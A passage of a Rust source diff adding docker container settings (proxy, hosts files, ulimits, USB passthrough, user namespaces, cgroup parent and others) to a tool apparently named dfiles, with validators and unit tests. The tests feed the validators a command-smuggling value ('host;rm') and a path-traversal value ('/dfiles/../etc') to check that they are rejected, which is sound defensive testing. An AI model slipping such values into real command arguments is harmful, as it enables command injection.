+            .map(str::trim)
+            .filter(|l| !l.is_empty())
+            .collect();
+        if lines.is_empty() {
+            return Vec::new();
+        }
+
+        vec![DockerfileSnippet {
+            order: self.order,
+            content: format!("RUN {}", lines.join(" \\\n  && ")),
+        }]
+    }
+}
+
+impl TryFrom<&str> for Run {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        if value.trim().is_empty() {
+            return Err(Error::InvalidRunCommand(value.to_string()));
+        }
+        Ok(Run {
+            order: 89,
+            command: value.to_string(),
+        })
+    }
+}
+
+#[cfg(test)]
+mod run_should {
+    use super::*;
+
+    #[test]
+    fn chain_multi_line_commands() -> Result<()> {
+        let run = Run::try_from("apt-get update\n  pip install foo\n")?;
+        let snippets = run.dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(snippets[0].order, 89);
+        assert_eq!(
+            snippets[0].content,
+            "RUN apt-get update \\\n  && pip install foo"
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_empty_commands() {
+        assert!(Run::try_from("  \n ").is_err());
+    }
+}
+
+/// A file whose contents are provided by the host and `COPY`'d into the image at build time.
+#[derive(Serialize, Deserialize, Debug, Clone)]
+pub struct CopyFile {
+    pub host_contents: String,
+    pub container_path: String,
+    pub order: u8,
+}
+
+impl CopyFile {
+    /// Path of the file within the build context archive; the `COPY` source must match it exactly.
+    pub fn archive_path(&self) -> String {
+        format!("copy-file/{}", self.container_path.trim_start_matches('/'))
+    }
+}
+
+impl ContainerAspect for CopyFile {
+    fn name(&self) -> String {
+        format!("CopyFile: {}", self.container_path)
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: self.order,
+            content: format!("COPY {} {}", self.archive_path(), self.container_path),
+        }]
+    }
+    fn container_files(&self) -> Vec<ContainerFile> {
+        vec![ContainerFile {
+            container_path: self.archive_path(),
+            contents: self.host_contents.clone(),
+        }]
+    }
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Network {
+    pub mode: String,
+}
+
+impl ContainerAspect for Network {
+    fn name(&self) -> String {
+        String::from("Network")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec!["--net", &self.mode]
+            .into_iter()
+            .map(String::from)
+            .collect())
+    }
+}
+
+impl TryFrom<&str> for Network {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        Ok(Network {
+            mode: value.to_string(),
+        })
+    }
+}
+
+impl Network {
+    /// Whether the mode names a user-defined network rather than one of docker's built-in modes.
+    pub fn is_user_defined(&self) -> bool {
+        !["bridge", "host", "none", "default"].contains(&self.mode.as_str())
+            && !self.mode.starts_with("container:")
+    }
+}
+
+/// A fixed MAC address for the container, e.g. for software licensed to a machine.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct MacAddress(pub String);
+
+impl MacAddress {
+    fn validate(&self) -> Result<()> {
+        let octets: Vec<&str> = self.0.split(':').collect();
+        let valid = octets.len() == 6
+            && octets
+                .iter()
+                .all(|o| o.len() == 2 && o.chars().all(|c| c.is_ascii_hexdigit()));
+        if !valid {
+            return Err(Error::InvalidMacAddress(self.0.clone()));
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for MacAddress {
+    fn name(&self) -> String {
+        String::from("MacAddress")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.validate()?;
+        Ok(vec![String::from("--mac-address"), self.0.clone()])
+    }
+}
+
+impl TryFrom<&str> for MacAddress {
+    type Error = Error;
+    fn try_from(s: &str) -> Result<Self> {
+        let mac = MacAddress(s.to_string());
+        mac.validate()?;
+        Ok(mac)
+    }
+}
+
+/// A static IP address for the container. Docker only assigns these on user-defined networks
+/// with a configured subnet, so it needs a `Network` aspect naming one, e.g. created with
+/// `docker network create --subnet 172.20.0.0/16 dfiles`.
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Ip(pub IpAddr);
+
+impl ContainerAspect for Ip {
+    fn name(&self) -> String {
+        String::from("Ip")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let flag = match self.0 {
+            IpAddr::V4(_) => "--ip",
+            IpAddr::V6(_) => "--ip6",
+        };
+        Ok(vec![String::from(flag), self.0.to_string()])
+    }
+}
+
+#[cfg(test)]
+mod network_identity_should {
+    use super::*;
+
+    #[test]
+    fn emit_mac_address() -> Result<()> {
+        assert_eq!(
+            MacAddress::try_from("02:42:AC:11:00:02")?.run_args(None)?,
+            vec!["--mac-address", "02:42:AC:11:00:02"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_malformed_mac_addresses() {
+        for value in &[
+            "",
+            "02:42:ac:11:00",
+            "02:42:ac:11:00:02:03",
+            "02-42-ac-11-00-02",
+            "2:42:ac:11:00:02",
+            "02:42:ac:11:00:0g",
+        ] {
+            match MacAddress::try_from(*value) {
+                Err(Error::InvalidMacAddress(v)) => assert_eq!(v, *value),
+                other => panic!("expected InvalidMacAddress, got {:?}", other),
+            }
+        }
+    }
+
+    #[test]
+    fn emit_ip_flag_for_address_family() -> Result<()> {
+        assert_eq!(
+            Ip("172.20.0.5".parse().unwrap()).run_args(None)?,
+            vec!["--ip", "172.20.0.5"]
+        );
+        assert_eq!(
+            Ip("fd00::5".parse().unwrap()).run_args(None)?,
+            vec!["--ip6", "fd00::5"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn tell_user_defined_networks_apart() {
+        for mode in &["bridge", "host", "none", "default", "container:db"] {
+            assert!(!Network {
+                mode: mode.to_string()
+            }
+            .is_user_defined());
+        }
+        assert!(Network {
+            mode: String::from("dfiles")
+        }
+        .is_user_defined());
+    }
+}
+
+/// HTTP(S) proxy settings made available to `apt` at build time and to the application at run
+/// time.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Proxy {
+    pub http: Option<String>,
+    pub https: Option<String>,
+    pub no_proxy: Option<String>,
+}
+
+impl Proxy {
+    pub fn new(
+        http: Option<String>,
+        https: Option<String>,
+        no_proxy: Option<String>,
+    ) -> Result<Self> {
+        for url in http.iter().chain(https.iter()) {
+            validate_proxy_url(url)?;
+        }
+        Ok(Proxy {
+            http,
+            https,
+            no_proxy,
+        })
+    }
+
+    /// Picks up the proxy settings of the host environment, preferring the lowercase variables.
+    pub fn from_env() -> Result<Self> {
+        let var = |name: &str| {
+            env::var(name.to_lowercase())
+                .or_else(|_| env::var(name.to_uppercase()))
+                .ok()
+        };
+        Proxy::new(var("http_proxy"), var("https_proxy"), var("no_proxy"))
+    }
+
+    fn vars(&self) -> Vec<(String, String)> {
+        let mut vars = Vec::new();
+        for (name, value) in [
+            ("http_proxy", &self.http),
+            ("https_proxy", &self.https),
+            ("no_proxy", &self.no_proxy),
+        ]
+        .iter()
+        {
+            if let Some(v) = value {
+                vars.push((name.to_string(), v.clone()));
+                vars.push((name.to_uppercase(), v.clone()));
+            }
+        }
+        vars
+    }
+}
+
+fn validate_proxy_url(url: &str) -> Result<()> {
+    let host = ["http://", "https://", "socks5://"]
+        .iter()
+        .find_map(|scheme| url.strip_prefix(scheme));
+    match host {
+        Some(h) if !h.is_empty() && !h.starts_with('/') && !h.contains(char::is_whitespace) => {
+            Ok(())
+        }
+        _ => Err(Error::InvalidProxy(url.to_string())),
+    }
+}
+
+impl ContainerAspect for Proxy {
+    fn name(&self) -> String {
+        String::from("Proxy")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(self
+            .vars()
+            .into_iter()
+            .flat_map(|(k, v)| vec![String::from("-e"), format!("{}={}", k, v)])
+            .collect())
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let vars = self.vars();
+        if vars.is_empty() {
+            return Vec::new();
+        }
+
+        // build args rather than ENV so the proxy settings don't get baked into the image
+        vec![DockerfileSnippet {
+            order: 1,
+            content: vars
+                .into_iter()
+                .map(|(k, v)| format!("ARG {}={}", k, v))
+                .collect::<Vec<String>>()
+                .join("\n"),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod proxy_should {
+    use super::*;
+
+    fn proxy() -> Result<Proxy> {
+        Proxy::new(
+            Some("http://proxy.example.com:3128".to_string()),
+            None,
+            Some("localhost".to_string()),
+        )
+    }
+
+    #[test]
+    fn emit_build_args() -> Result<()> {
+        let snippets = proxy()?.dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(snippets[0].order, 1);
+        assert_eq!(
+            snippets[0].content,
+            r#"ARG http_proxy=http://proxy.example.com:3128
+ARG HTTP_PROXY=http://proxy.example.com:3128
+ARG no_proxy=localhost
+ARG NO_PROXY=localhost"#
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn emit_run_args() -> Result<()> {
+        assert_eq!(
+            proxy()?.run_args(None)?,
+            vec![
+                "-e",
+                "http_proxy=http://proxy.example.com:3128",
+                "-e",
+                "HTTP_PROXY=http://proxy.example.com:3128",
+                "-e",
+                "no_proxy=localhost",
+                "-e",
+                "NO_PROXY=localhost",
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_invalid_urls() {
+        assert!(Proxy::new(Some("proxy.example.com".to_string()), None, None).is_err());
+        assert!(Proxy::new(None, Some("http://".to_string()), None).is_err());
+    }
+}
+
+/// Extra `/etc/hosts` entries for the container; the special `host-gateway` address resolves to
+/// the host, eg `host.docker.internal:host-gateway`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct ExtraHosts(pub Vec<(String, String)>);
+
+impl ExtraHosts {
+    /// Parses a single `name:ip` entry.
+    pub fn parse(value: &str) -> Result<(String, String)> {
+        match value.find(':') {
+            Some(i) => {
+                let (name, ip) = (&value[..i], &value[i + 1..]);
+                validate_extra_host(name, ip)?;
+                Ok((name.to_string(), ip.to_string()))
+            }
+            None => Err(Error::InvalidExtraHost(value.to_string())),
+        }
+    }
+}
+
+fn validate_extra_host(name: &str, ip: &str) -> Result<()> {
+    if name.is_empty() || (ip != "host-gateway" && ip.parse::<IpAddr>().is_err()) {
+        return Err(Error::InvalidExtraHost(format!("{}:{}", name, ip)));
+    }
+    Ok(())
+}
+
+impl ContainerAspect for ExtraHosts {
+    fn name(&self) -> String {
+        String::from("ExtraHosts")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let mut args = Vec::new();
+        for (name, ip) in &self.0 {
+            validate_extra_host(name, ip)?;
+            args.push(String::from("--add-host"));
+            args.push(format!("{}:{}", name, ip));
+        }
+        Ok(args)
+    }
+}
+
+#[cfg(test)]
+mod extra_hosts_should {
+    use super::*;
+
+    #[test]
+    fn accept_host_gateway_keyword() -> Result<()> {
+        let entry = ExtraHosts::parse("host.docker.internal:host-gateway")?;
+        assert_eq!(
+            ExtraHosts(vec![entry]).run_args(None)?,
+            vec!["--add-host", "host.docker.internal:host-gateway"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn accept_ipv4_and_ipv6() -> Result<()> {
+        assert_eq!(
+            ExtraHosts::parse("db:10.0.0.5")?,
+            ("db".to_string(), "10.0.0.5".to_string())
+        );
+        assert_eq!(
+            ExtraHosts::parse("db6:fd00::5")?,
+            ("db6".to_string(), "fd00::5".to_string())
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_malformed_ips() {
+        assert!(ExtraHosts::parse("db:10.0.0.500").is_err());
+        assert!(ExtraHosts::parse("db").is_err());
+        assert!(ExtraHosts(vec![("db".to_string(), "nope".to_string())])
+            .run_args(None)
+            .is_err());
+    }
+}
+
+/// A hosts file managed outside dfiles, mounted read-only over the container's `/etc/hosts`.
+/// It replaces the file docker generates, including any `ExtraHosts` entries.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct HostsFile(pub PathBuf);
+
+impl ContainerAspect for HostsFile {
+    fn name(&self) -> String {
+        String::from("HostsFile")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let path = fs::canonicalize(&self.0)
+            .ok()
+            .filter(|p| p.is_file())
+            .ok_or_else(|| Error::MissingHostsFile(self.0.clone()))?;
+        Ok(vec![
+            String::from("-v"),
+            format!("{}:/etc/hosts:ro", path.to_string_lossy()),
+        ])
+    }
+    fn conflicts(&self) -> Vec<Conflict> {
+        vec![Conflict {
+            aspect: String::from("ExtraHosts"),
+            severity: Severity::Warn,
+            reason: String::from("the mounted hosts file hides the entries docker adds"),
+        }]
+    }
+}
+
+/// A resolver configuration managed outside dfiles, e.g. for split-horizon DNS, mounted read-only
+/// over the container's `/etc/resolv.conf`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct ResolvConf(pub PathBuf);
+
+impl ContainerAspect for ResolvConf {
+    fn name(&self) -> String {
+        String::from("ResolvConf")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let path = fs::canonicalize(&self.0)
+            .ok()
+            .filter(|p| p.is_file())
+            .ok_or_else(|| Error::MissingResolvConf(self.0.clone()))?;
+        Ok(vec![
+            String::from("-v"),
+            format!("{}:/etc/resolv.conf:ro", path.to_string_lossy()),
+        ])
+    }
+}
+
+#[cfg(test)]
+mod name_resolution_files_should {
+    use super::*;
+
+    #[test]
+    fn mount_files_read_only() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let dir_path = fs::canonicalize(dir.path())?;
+        fs::write(dir_path.join("hosts"), "10.0.0.5 db\n")?;
+        fs::write(dir_path.join("resolv.conf"), "nameserver 10.0.0.1\n")?;
+
+        assert_eq!(
+            HostsFile(dir_path.join("hosts")).run_args(None)?,
+            vec![
+                "-v".to_string(),
+                format!("{}/hosts:/etc/hosts:ro", dir_path.to_string_lossy()),
+            ]
+        );
+        assert_eq!(
+            ResolvConf(dir_path.join("resolv.conf")).run_args(None)?,
+            vec![
+                "-v".to_string(),
+                format!(
+                    "{}/resolv.conf:/etc/resolv.conf:ro",
+                    dir_path.to_string_lossy()
+                ),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_files() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        match HostsFile(dir.path().join("hosts")).run_args(None) {
+            Err(Error::MissingHostsFile(p)) => assert!(p.ends_with("hosts")),
+            other => panic!("expected MissingHostsFile, got {:?}", other),
+        }
+        match ResolvConf(dir.path().join("resolv.conf")).run_args(None) {
+            Err(Error::MissingResolvConf(p)) => assert!(p.ends_with("resolv.conf")),
+            other => panic!("expected MissingResolvConf, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
+const RLIMITS: &[&str] = &[
+    "core",
+    "cpu",
+    "data",
+    "fsize",
+    "locks",
+    "memlock",
+    "msgqueue",
+    "nice",
+    "nofile",
+    "nproc",
+    "rss",
+    "rtprio",
+    "rttime",
+    "sigpending",
+    "stack",
+];
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Ulimit {
+    pub name: String,
+    pub soft: i64,
+    pub hard: i64,
+}
+
+impl Ulimit {
+    fn validate(&self) -> Result<()> {
+        if !RLIMITS.contains(&self.name.as_str()) || self.hard < self.soft {
+            return Err(Error::InvalidUlimit(self.to_string()));
+        }
+        Ok(())
+    }
+}
+
+impl fmt::Display for Ulimit {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        write!(f, "{}={}:{}", self.name, self.soft, self.hard)
+    }
+}
+
+impl TryFrom<&str> for Ulimit {
+    type Error = Error;
+    /// Parses `<name>=<soft>[:<hard>]`; the hard limit defaults to the soft limit.
+    fn try_from(value: &str) -> Result<Self> {
+        let invalid = || Error::InvalidUlimit(value.to_string());
+
+        let (name, limits) = match value.find('=') {
+            Some(i) => (&value[..i], &value[i + 1..]),
+            None => return Err(invalid()),
+        };
+        let mut parts = limits.splitn(2, ':');
+        let soft: i64 = parts
+            .next()
+            .and_then(|v| v.parse().ok())
+            .ok_or_else(invalid)?;
+        let hard: i64 = match parts.next() {
+            Some(v) => v.parse().map_err(|_| invalid())?,
+            None => soft,
+        };
+
+        let ulimit = Ulimit {
+            name: name.to_string(),
+            soft,
+            hard,
+        };
+        ulimit.validate()?;
+        Ok(ulimit)
+    }
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Ulimits(pub Vec<Ulimit>);
+
+impl ContainerAspect for Ulimits {
+    fn name(&self) -> String {
+        String::from("Ulimits")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let mut args = Vec::new();
+        for ulimit in &self.0 {
+            ulimit.validate()?;
+            args.push(String::from("--ulimit"));
+            args.push(ulimit.to_string());
+        }
+        Ok(args)
+    }
+}
+
+#[cfg(test)]
+mod ulimits_should {
+    use super::*;
+
+    #[test]
+    fn emit_run_args() -> Result<()> {
+        let ulimits = Ulimits(vec![
+            Ulimit::try_from("nofile=1024:4096")?,
+            Ulimit::try_from("nproc=512")?,
+        ]);
+        assert_eq!(
+            ulimits.run_args(None)?,
+            vec!["--ulimit", "nofile=1024:4096", "--ulimit", "nproc=512:512"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_hard_below_soft() {
+        assert!(Ulimit::try_from("nofile=4096:1024").is_err());
+        let ulimit = Ulimit {
+            name: "nofile".to_string(),
+            soft: 4096,
+            hard: 1024,
+        };
+        assert!(Ulimits(vec![ulimit]).run_args(None).is_err());
+    }
+
+    #[test]
+    fn reject_unknown_names() {
+        assert!(Ulimit::try_from("files=1024:4096").is_err());
+        assert!(Ulimit::try_from("nofile").is_err());
+        assert!(Ulimit::try_from("nofile=lots").is_err());
+    }
+}
+
+/// Runs docker's init process as PID 1 to forward signals and reap zombie child processes, which
+/// Electron and Chromium based apps tend to leave behind. docker execs any `--entrypoint` from
+/// the init process so the two can be combined freely.
+#[derive(Clone)]
+pub struct Init {}
+impl ContainerAspect for Init {
+    fn name(&self) -> String {
+        String::from("Init")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec![String::from("--init")])
+    }
+}
+
+/// A USB device identified by vendor and product id, resolved to its current `/dev/bus/usb` node
+/// each time the container is run so it survives re-enumeration. When the device shows up in
+/// sysfs but its node can't be resolved, the whole USB bus is mounted and access to USB character
+/// devices is allowed through a cgroup rule instead.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Usb {
+    pub vendor: String,
+    pub product: String,
+}
+
+impl Usb {
+    const SYSFS_DEVICES: &'static str = "/sys/bus/usb/devices";
+    const DEV_BUS: &'static str = "/dev/bus/usb";
+    /// Major number of USB character devices.
+    const USB_DEVICE_MAJOR: u32 = 189;
+
+    fn resolve(&self, sysfs_devices: &Path, dev_bus: &Path) -> Result<Vec<String>> {
+        let not_found = || Error::UsbDeviceNotFound {
+            vid: self.vendor.clone(),
+            pid: self.product.clone(),
+        };
+        let device = fs::read_dir(sysfs_devices)
+            .map_err(|_| not_found())?
+            .filter_map(std::result::Result::ok)
+            .map(|e| e.path())
+            .find(|p| {
+                sysfs_attr(p, "idVendor").map_or(false, |v| v.eq_ignore_ascii_case(&self.vendor))
+                    && sysfs_attr(p, "idProduct")
+                        .map_or(false, |v| v.eq_ignore_ascii_case(&self.product))
+            })
+            .ok_or_else(not_found)?;
+
+        let node = match (
+            sysfs_attr(&device, "busnum").and_then(|b| b.parse::<u32>().ok()),
+            sysfs_attr(&device, "devnum").and_then(|d| d.parse::<u32>().ok()),
+        ) {
+            (Some(bus), Some(dev)) => Some(dev_bus.join(format!("{:03}/{:03}", bus, dev))),
+            _ => None,
+        };
+        match node {
+            Some(node) if node.exists() => Ok(vec![
+                String::from("--device"),
+                node.to_string_lossy().to_string(),
+            ]),
+            _ => {
+                debug!(
+                    "could not resolve device node for usb device {}:{}, mounting {}",
+                    self.vendor,
+                    self.product,
+                    dev_bus.to_string_lossy()
+                );
+                Ok(vec![
+                    String::from("-v"),
+                    format!("{0}:{0}", dev_bus.to_string_lossy()),
+                    String::from("--device-cgroup-rule"),
+                    format!("c {}:* rmw", Usb::USB_DEVICE_MAJOR),
+                ])
+            }
+        }
+    }
+}
+
+impl ContainerAspect for Usb {
+    fn name(&self) -> String {
+        format!("Usb: {}:{}", self.vendor, self.product)
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.resolve(Path::new(Usb::SYSFS_DEVICES), Path::new(Usb::DEV_BUS))
+    }
+}
+
+fn sysfs_attr(device: &Path, attr: &str) -> Option<String> {
+    fs::read_to_string(device.join(attr))
+        .ok()
+        .map(|v| v.trim().to_string())
+}
+
+#[cfg(test)]
+mod usb_should {
+    use super::*;
+
+    struct FakeSys {
+        sysfs: tempfile::TempDir,
+        dev_bus: tempfile::TempDir,
+    }
+
+    impl FakeSys {
+        fn new() -> Result<Self> {
+            Ok(FakeSys {
+                sysfs: tempfile::tempdir()?,
+                dev_bus: tempfile::tempdir()?,
+            })
+        }
+
+        fn add_device(&self, name: &str, attrs: &[(&str, &str)]) -> Result<()> {
+            let dir = self.sysfs.path().join(name);
+            fs::create_dir(&dir)?;
+            for (attr, value) in attrs {
+                fs::write(dir.join(attr), format!("{}\n", value))?;
+            }
+            Ok(())
+        }
+
+        fn add_node(&self, bus: &str, dev: &str) -> Result<PathBuf> {
+            let dir = self.dev_bus.path().join(bus);
+            fs::create_dir_all(&dir)?;
+            fs::write(dir.join(dev), "")?;
+            Ok(dir.join(dev))
+        }
+
+        fn resolve(&self, vendor: &str, product: &str) -> Result<Vec<String>> {
+            Usb {
+                vendor: vendor.to_string(),
+                product: product.to_string(),
+            }
+            .resolve(self.sysfs.path(), self.dev_bus.path())
+        }
+    }
+
+    #[test]
+    fn mount_resolved_device_node() -> Result<()> {
+        let sys = FakeSys::new()?;
+        sys.add_device(
+            "1-1",
+            &[
+                ("idVendor", "046d"),
+                ("idProduct", "c52b"),
+                ("busnum", "1"),
+                ("devnum", "4"),
+            ],
+        )?;
+        sys.add_device(
+            "1-2",
+            &[
+                ("idVendor", "1050"),
+                ("idProduct", "0407"),
+                ("busnum", "1"),
+                ("devnum", "7"),
+            ],
+        )?;
+        let node = sys.add_node("001", "007")?;
+
+        assert_eq!(
+            sys.resolve("1050", "0407")?,
+            vec!["--device".to_string(), node.to_string_lossy().to_string()]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn fall_back_to_bus_mount_without_node() -> Result<()> {
+        let sys = FakeSys::new()?;
+        sys.add_device("1-2", &[("idVendor", "1050"), ("idProduct", "0407")])?;
+
+        let bus = sys.dev_bus.path().to_string_lossy().to_string();
+        assert_eq!(
+            sys.resolve("1050", "0407")?,
+            vec![
+                "-v".to_string(),
+                format!("{0}:{0}", bus),
+                "--device-cgroup-rule".to_string(),
+                "c 189:* rmw".to_string(),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_absent_device() -> Result<()> {
+        let sys = FakeSys::new()?;
+        sys.add_device("1-1", &[("idVendor", "046d"), ("idProduct", "c52b")])?;
+        match sys.resolve("1050", "0407") {
+            Err(Error::UsbDeviceNotFound { vid, pid }) => {
+                assert_eq!((vid.as_str(), pid.as_str()), ("1050", "0407"))
+            }
+            other => panic!("expected UsbDeviceNotFound, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
+/// User namespace mode for the container, e.g. `host` to opt out of the daemon's
+/// `userns-remap`. Under any other mode the container uid set up by `CurrentUser` maps to a
+/// subordinate host uid, so bind-mounted host files owned by the host user become inaccessible
+/// unless they are made accessible to that subordinate uid.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct UserNsRemap(pub String);
+
+impl UserNsRemap {
+    fn validate(&self) -> Result<()> {
+        let mut chars = self.0.chars();
+        let valid = match chars.next() {
+            Some(c) if c.is_ascii_lowercase() || c == '_' => {
+                chars.all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-')
+            }
+            _ => false,
+        };
+        if !valid {
+            return Err(Error::InvalidUserNs(self.0.clone()));
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for UserNsRemap {
+    fn name(&self) -> String {
+        String::from("UserNsRemap")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.validate()?;
+        Ok(vec![format!("--userns={}", self.0)])
+    }
+    fn conflicts(&self) -> Vec<Conflict> {
+        if self.0 == "host" {
+            return Vec::new();
+        }
+        vec![Conflict {
+            aspect: String::from("User"),
+            severity: Severity::Warn,
+            reason: String::from(
+                "the container user maps to a subordinate host uid, so bind-mounted host files may \
+                 not be accessible",
+            ),
+        }]
+    }
+}
+
+impl TryFrom<&str> for UserNsRemap {
+    type Error = Error;
+    fn try_from(s: &str) -> Result<Self> {
+        let userns = UserNsRemap(s.to_string());
+        userns.validate()?;
+        Ok(userns)
+    }
+}
+
+#[cfg(test)]
+mod userns_remap_should {
+    use super::*;
+
+    #[test]
+    fn emit_userns_flag() -> Result<()> {
+        assert_eq!(
+            UserNsRemap::try_from("host")?.run_args(None)?,
+            vec!["--userns=host"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn note_current_user_interaction_only_when_remapping() -> Result<()> {
+        assert!(UserNsRemap::try_from("host")?.conflicts().is_empty());
+        let conflicts = UserNsRemap::try_from("dockremap")?.conflicts();
+        assert_eq!(conflicts.len(), 1);
+        assert_eq!(conflicts[0].aspect, "User");
+        assert_eq!(conflicts[0].severity, Severity::Warn);
+        Ok(())
+    }
+
+    #[test]
+    fn reject_malformed_values() {
+        assert!(UserNsRemap::try_from("").is_err());
+        assert!(UserNsRemap::try_from("host;rm").is_err());
+        assert!(UserNsRemap::try_from("Host").is_err());
+    }
+}
+
+/// Places the container's cgroup under a parent, e.g. a systemd slice like `dfiles.slice` with the
+/// systemd cgroup driver or a path like `/dfiles` with cgroupfs, so resource limits and accounting
+/// can be managed for all apps together. Under a private cgroup namespace (`--cgroupns=private`)
+/// the container sees its own cgroup as the root and not the parent.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct CgroupParent(pub String);
+
+impl CgroupParent {
+    fn validate(&self) -> Result<()> {
+        let valid = if self.0.ends_with(".slice") {
+            self.0.len() > ".slice".len()
+                && !self.0.contains('/')
+                && self
+                    .0
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || ":_.-\\".contains(c))
+        } else {
+            let path = self.0.strip_prefix('/').unwrap_or(&self.0);
+            !path.is_empty()
+                && path.split('/').all(|component| {
+                    !component.is_empty()
+                        && component != "."
+                        && component != ".."
+                        && component
+                            .chars()
+                            .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
+                })
+        };
+        if !valid {
+            return Err(Error::InvalidCgroupParent(self.0.clone()));
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for CgroupParent {
+    fn name(&self) -> String {
+        String::from("CgroupParent")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.validate()?;
+        Ok(vec![String::from("--cgroup-parent"), self.0.clone()])
+    }
+}
+
+impl TryFrom<&str> for CgroupParent {
+    type Error = Error;
+    fn try_from(s: &str) -> Result<Self> {
+        let cgroup_parent = CgroupParent(s.to_string());
+        cgroup_parent.validate()?;
+        Ok(cgroup_parent)
+    }
+}
+
+#[cfg(test)]
+mod cgroup_parent_should {
+    use super::*;
+
+    #[test]
+    fn emit_cgroup_parent_flag() -> Result<()> {
+        assert_eq!(
+            CgroupParent::try_from("dfiles.slice")?.run_args(None)?,
+            vec!["--cgroup-parent", "dfiles.slice"]
+        );
+        assert_eq!(
+            CgroupParent::try_from("/dfiles/apps")?.run_args(None)?,
+            vec!["--cgroup-parent", "/dfiles/apps"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_implausible_values() {
+        for value in &[
+            "",
+            "/",
+            ".slice",
+            "a/b.slice",
+            "/dfiles/../etc",
+            "dfiles//apps",
+            "a b",
+        ] {
+            match CgroupParent::try_from(*value) {
+                Err(Error::InvalidCgroupParent(v)) => assert_eq!(v, *value),
+                other => panic!("expected InvalidCgroupParent, got {:?}", other),
+            }
+        }
+    }
+}
+
+/// The signal `docker stop` sends the app first, for apps that only shut down cleanly on e.g.
+/// `SIGINT`. Accepts names with or without the `SIG` prefix.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct StopSignal(pub String);
+
+impl StopSignal {
+    const SIGNALS: &'static [&'static str] = &[
+        "HUP", "INT", "QUIT", "ILL", "TRAP", "ABRT", "BUS", "FPE", "KILL", "USR1", "SEGV", "USR2",
+        "PIPE", "ALRM", "TERM", "STKFLT", "CHLD", "CONT", "STOP", "TSTP", "TTIN", "TTOU", "URG",
+        "XCPU", "XFSZ", "VTALRM", "PROF", "WINCH", "IO", "PWR", "SYS",
+    ];
+
+    fn validate(&self) -> Result<()> {
+        let name = self.0.strip_prefix("SIG").unwrap_or(&self.0);
+        if !StopSignal::SIGNALS.contains(&name) {
+            return Err(Error::InvalidStopSignal(self.0.clone()));
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for StopSignal {
+    fn name(&self) -> String {
+        String::from("StopSignal")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.validate()?;
+        Ok(vec![String::from("--stop-signal"), self.0.clone()])
+    }
+}
+
+impl TryFrom<&str> for StopSignal {
+    type Error = Error;
+    fn try_from(s: &str) -> Result<Self> {
+        let stop_signal = StopSignal(s.to_string());
+        stop_signal.validate()?;
+        Ok(stop_signal)
